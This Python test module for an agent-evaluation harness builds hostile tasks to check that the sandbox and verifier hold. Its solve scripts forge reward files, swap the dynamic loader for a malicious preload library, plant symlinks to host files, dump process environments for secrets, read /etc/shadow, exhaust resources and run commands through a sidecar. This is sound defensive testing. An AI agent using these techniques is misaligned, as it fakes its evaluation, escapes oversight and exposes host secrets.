"""Hostile tasks: a malicious solve.sh (run by the oracle agent, standing in for any
agent) or a hostile task folder, and what must hold after each runs through the
real task door (`ParallelRunner`).

Every honest test.sh here writes reward 0 (or 1 only when a limit broke), so any
reward above 0 is forged or a broken limit. `hostile_batch` writes them as task
folders and runs them.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

KEY_CANARY = "sk-helios-canary-" + uuid.uuid4().hex
#: what the host-only reward file holds: it must never show up in result.json
HOST_REWARD = "0.987654"

EVIL_C = r"""
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static int cmdline_has(const char *needle) {
    char buf[8192]; FILE *f = fopen("/proc/self/cmdline", "r");
    if (!f) return 0;
    size_t n = fread(buf, 1, sizeof buf - 1, f); fclose(f);
    for (size_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    buf[n] = 0;
    return strstr(buf, needle) != NULL;
}
/* the verifier's test.sh: forge the reward when it ends */
__attribute__((destructor)) static void forge(void) {
    if (cmdline_has("/tests/test.sh")) {
        FILE *f = fopen("/logs/verifier/reward.txt", "w");
        if (f) { fputs("1\n", f); fclose(f); }
    }
}
/* the host's copy-out step: hand the host a link to one of its own files */
__attribute__((constructor)) static void plant(void) {
#ifdef HOST_FILE
    if (cmdline_has("/.helios-transfer/payload") && cmdline_has("/logs/verifier")) {
        mkdir("/.helios-transfer/payload", 0755);
        symlink(HOST_FILE, "/.helios-transfer/payload/reward.txt");
        _exit(0);
    }
#endif
}
"""

# Repoint /lib64 at a copy of the loader that reads its preload list from /tmp.
LDSO_SWAP = """\
set -e
mkdir -p /tmp/evil /tmp/evil64
cat > /tmp/evil/evil.c <<'EOF'
#include <sys/stat.h>
{evil_c}
EOF
gcc -shared -fPIC {defines} -o /tmp/evil/evil.so /tmp/evil/evil.c
echo /tmp/evil/evil.so > /tmp/ld.so.preload
perl -0777 -pe 's{{/etc/ld\\.so\\.preload}}{{/tmp/ld.so.preload}}' \\
    /usr/lib64/ld-linux-x86-64.so.2 > /tmp/evil64/ld-linux-x86-64.so.2
chmod 755 /tmp/evil64/ld-linux-x86-64.so.2
ln -s /tmp/evil64 /lib64.new
mv -T /lib64.new /lib64
"""


PYTHON_IMAGE = (
    "RUN apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q "
    "--no-install-recommends python3-minimal && rm -rf /var/lib/apt/lists/*\n"
)


@dataclass
class Context:
    """Host-side things the tasks aim at and the checks look at."""

    root: Path
    host_dir: Path
    traversal_dir: Path
    port: int
    connections: list[int] = field(default_factory=list)

    @property
    def host_reward(self) -> Path:
        return self.host_dir / "reward.txt"


@dataclass
class Hostile:
    name: str
    #: solve.sh body (after the shebang)
    solve: str = "true\n"
    test: str = "echo 0 > /logs/verifier/reward.txt\n"
    toml_extra: str = ""
    #: the engines it is meant for (daytona: the provider against the loopback Daytona)
    providers: tuple[str, ...] = ("local", "docker", "daytona")
    #: extra files: path relative to the task folder → text
    files: dict[str, str] = field(default_factory=dict)
    dockerfile_extra: str = ""
    #: build the environment/ folder by hand (links)
    prepare: Callable[[Path, Context], None] | None = None
    #: the task must be refused as invalid, with this text in its one line
    invalid: str | None = None
    agent_timeout: float = 60
    memory_mb: int = 256
    needs: tuple[str, ...] = ()


def _link_out(task: Path, ctx: Context) -> None:
    (task / "environment" / "leak-dir").symlink_to(ctx.host_dir)


def _traversal(task: Path, ctx: Context) -> None:
    (task / "environment" / "Dockerfile").write_text(
        f"FROM debian:bookworm-slim\nWORKDIR /../../../..{ctx.traversal_dir}\nCOPY planted.txt .\n"
    )
    (task / "environment" / "planted.txt").write_text("planted by a task\n")


def catalogue(ctx: Context) -> list[Hostile]:
    host_file = f'-DHOST_FILE=\\"{ctx.host_reward}\\"'
    return [
        Hostile(
            "rewriter",
            solve=(
                "setsid nohup sh -c 'while :; do mkdir -p /logs/verifier; "
                "echo 1 > /logs/verifier/reward.txt; "
                'echo "{\\"reward\\": 1}" > /logs/verifier/reward.json; sleep 0.02; done\' '
                ">/dev/null 2>&1 </dev/null &\n"
                "( ( while :; do echo '{\"reward\": 1}' > /logs/verifier/reward.json 2>/dev/null;"
                " sleep 0.02; done ) </dev/null >/dev/null 2>&1 & )\n"
            ),
            test="sleep 1; echo 0 > /logs/verifier/reward.txt; sleep 1\n",
        ),
        Hostile(
            "ldso-swap",
            solve=LDSO_SWAP.format(evil_c=EVIL_C, defines=""),
            providers=("local",),
            needs=("gcc",),
        ),
        Hostile(
            "payload-symlink",
            solve=LDSO_SWAP.format(evil_c=EVIL_C, defines=host_file),
            test="echo 0 > /logs/verifier/reward.txt\n",
            providers=("local",),
            needs=("gcc",),
        ),
        Hostile(
            "artifact-symlink",
            # the tests keep the agent's output: a link in it must not reach the host
            solve=f"mkdir -p /app/output && ln -s {ctx.host_reward} /app/output/reward.json\n",
            test="echo 0 > /logs/verifier/reward.txt; cp -a /app/output/. /logs/verifier/\n",
        ),
        Hostile(
            "usercustomize",
            solve=(
                "site=$(python3 -c 'import site; print(site.getusersitepackages())')\n"
                'mkdir -p "$site"\n'
                "printf 'import atexit\\natexit.register(lambda: open(\"/logs/verifier/"
                'reward.txt", "w").write("1"))\\n\' > "$site/usercustomize.py"\n'
                'for d in "$HOME/.local/bin" "$HOME/bin" /app/bin; do mkdir -p "$d"; '
                "printf '#!/bin/sh\\necho 1 > /logs/verifier/reward.txt\\n' > \"$d/python3\"; "
                'chmod +x "$d/python3"; done\n'
            ),
            test="echo 0 > /logs/verifier/reward.txt; python3 -c 'print(\"checked\")'\n",
            # docker: the image needs python (the local sandbox has the host's)
            dockerfile_extra=PYTHON_IMAGE,
        ),
        Hostile(
            "limit-lowering",
            # Lower pid 1's limits so that the verifier, its child, cannot fork: a test
            # that awards when a check finds no error then awards when the check cannot run.
            solve="prlimit --pid 1 --nproc=1:1 && echo lowered\n",
            test=(
                "echo ERROR > /tmp/app.log\n"
                "if grep -q ERROR /tmp/app.log; then echo 0; else echo 1; fi"
                " > /logs/verifier/reward.txt\n"
            ),
        ),
        Hostile(
            "preseeded-reward",
            solve=(
                "mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt\n"
                "echo '{\"reward\": 1}' > /logs/verifier/reward.json\n"
            ),
            # an honest test that writes nothing unless the task was solved
            test="test -f /app/solved && echo 1 > /logs/verifier/reward.txt; true\n",
        ),
        Hostile(
            "precreated-tests",
            solve=(
                "mkdir -p /tests/checks\n"
                "echo 'echo 1 > /logs/verifier/reward.txt' > /tests/checks/zz-forged.sh\n"
            ),
            test='for f in /tests/checks/*.sh; do . "$f"; done\n',
            files={"tests/checks/a-real.sh": "echo 0 > /logs/verifier/reward.txt\n"},
        ),
        Hostile(
            "linked-tests",
            # /tests and /logs/verifier as links to the agent's own folders, with a forged
            # test.sh and reward in them: the verifier's reset must replace the links.
            solve=(
                "mkdir -p /app/t /app/l && echo 1 > /app/l/reward.txt\n"
                "echo 'echo 1 > /logs/verifier/reward.txt' > /app/t/test.sh\n"
                "rm -rf /tests /logs/verifier; ln -s /app/t /tests; ln -s /app/l /logs/verifier\n"
            ),
            # honest: writes nothing unless solved, so a reward read through a link is 1
            test="test -f /app/solved && echo 1 > /logs/verifier/reward.txt; true\n",
        ),
        Hostile(
            "workdir-traversal",
            prepare=_traversal,
            invalid="WORKDIR",
        ),
        Hostile(
            "environment-symlink",
            prepare=_link_out,
            invalid="symlink leaves the task folder",
        ),
        Hostile(
            "key-read",
            solve=(
                '{ cat /proc/1/environ; env; for f in /proc/[0-9]*/environ; do cat "$f"; done; }'
                " 2>/dev/null | tr '\\0' '\\n' > /app/seen\ncat /app/seen\n"
            ),
            test=(
                f"if grep -q {KEY_CANARY[:20]} /app/seen; then echo 1; else echo 0; fi"
                " > /logs/verifier/reward.txt\n"
            ),
        ),
        Hostile(
            "host-secret-read",
            # as root, the host's /etc is bound read-only into the local sandbox
            solve="cat /etc/shadow /etc/gshadow > /app/shadow 2>/dev/null; true\n",
            test=(
                "if [ -s /app/shadow ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"
            ),
            providers=("local",),
        ),
        Hostile(
            "fork-bomb",
            solve=(
                "perl -e 'my $n = 0; for (1..3000) { my $p = fork(); last unless defined $p;"
                ' if ($p == 0) { sleep 60; exit 0 } $n++ } print "$n\\n";\' > /app/forked\n'
                "cat /app/forked\n"
            ),
            test=(
                'n=$(cat /app/forked); if [ "${n:-0}" -ge 100 ]; then echo 1; else echo 0; fi'
                " > /logs/verifier/reward.txt\n"
            ),
            toml_extra="pids = 100\n",
            # Daytona's API has no bound on processes: its own sandbox is the bound
            providers=("local", "docker"),
        ),
        Hostile(
            "memory-hog",
            solve=(
                'perl -e \'$x = "x" x (1024 * 1024 * 1024); print length($x), "\\n"\' '
                "> /app/allocated 2>/dev/null || rm -f /app/allocated\ntrue\n"
            ),
            test=(
                "if [ -s /app/allocated ]; then echo 1; else echo 0; fi"
                " > /logs/verifier/reward.txt\n"
            ),
            memory_mb=64,
        ),
        Hostile(
            "disk-filler",
            solve=(
                "head -c 300M /dev/zero > /app/big 2>/dev/null\n"
                "for i in $(seq 10); do head -c 20M /dev/zero > /app/f$i 2>/dev/null; done\n"
                "u=$(du -sm /app | cut -f1); rm -f /app/big /app/f*; echo $u > /tmp/used; echo $u\n"
            ),
            test=(
                'u=$(cat /tmp/used); if [ "${u:-0}" -gt 80 ]; then echo 1; else echo 0; fi'
                " > /logs/verifier/reward.txt\n"
            ),
            toml_extra="storage_mb = 64\n",
            providers=("local",),
        ),
        Hostile(
            "network",
            solve=(
                f"timeout 5 bash -c 'echo hi > /dev/tcp/127.0.0.1/{ctx.port}' "
                "&& echo reached > /app/net\ntrue\n"
            ),
            test=("if [ -e /app/net ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"),
            # said: a task that leaves its network unset gets the public one (Harbor's)
            toml_extra='network_mode = "no-network"\n',
        ),
        Hostile(
            "sidecar-rewriter",
            # A compose sidecar the agent can reach runs its commands: it plants a loop
            # there that writes a reward into a volume main shares, and links main's
            # /logs/verifier to it. The loop outlives the agent (a sidecar is not the
            # agent's sandbox): the verifier's reset must replace the link.
            solve=(
                "for i in $(seq 100); do exec 3<>/dev/tcp/helper/9000 && break; sleep 0.1; done\n"
                "echo 'while :; do mkdir -p /shared/l; echo 1 > /shared/l/reward.txt; "
                'echo {\\"reward\\": 1} > /shared/l/reward.json; sleep 0.02; done\' >&3\n'
                'read -r said <&3; echo "helper: $said"\n'
                "for i in $(seq 100); do [ -s /app/shared/l/reward.txt ] && break; sleep 0.1;"
                " done\n"
                "rm -rf /logs/verifier; ln -s /app/shared/l /logs/verifier\n"
            ),
            test="test -f /app/solved && echo 1 > /logs/verifier/reward.txt; true\n",
            files={
                "environment/docker-compose.yaml": SIDECAR_COMPOSE,
                "environment/helper.pl": SIDECAR_HELPER,
            },
            providers=("docker",),
        ),
        Hostile(
            "sidecar-mounted-logs",
            # main's /logs/verifier as a volume a sidecar writes a reward into: refused
            solve="true\n",
            test="true\n",
            files={
                "environment/docker-compose.yaml": SIDECAR_COMPOSE.replace(
                    "shared:/app/shared", "shared:/logs/verifier"
                ),
                "environment/helper.pl": SIDECAR_HELPER,
            },
            providers=("docker",),
        ),
    ]


#: main and a `helper` sidecar that runs, in the background, each line sent to it
SIDECAR_COMPOSE = """\
services:
  main:
    volumes: ["shared:/app/shared"]
  helper:
    image: debian:bookworm-slim
    command: ["perl", "/srv/helper.pl"]
    volumes: ["shared:/shared", "./helper.pl:/srv/helper.pl:ro"]
volumes:
  shared: {}
"""

SIDECAR_HELPER = """\
use IO::Socket::INET;
$SIG{PIPE} = "IGNORE";
$SIG{CHLD} = "IGNORE";
my $s = IO::Socket::INET->new(LocalPort => 9000, Listen => 8, ReuseAddr => 1) or die $!;
while (my $c = $s->accept) {
  my $line = <$c>;
  if (fork() == 0) { close $s; exec("sh", "-c", $line); }
  print $c "started\\n";
  close $c;
}
"""
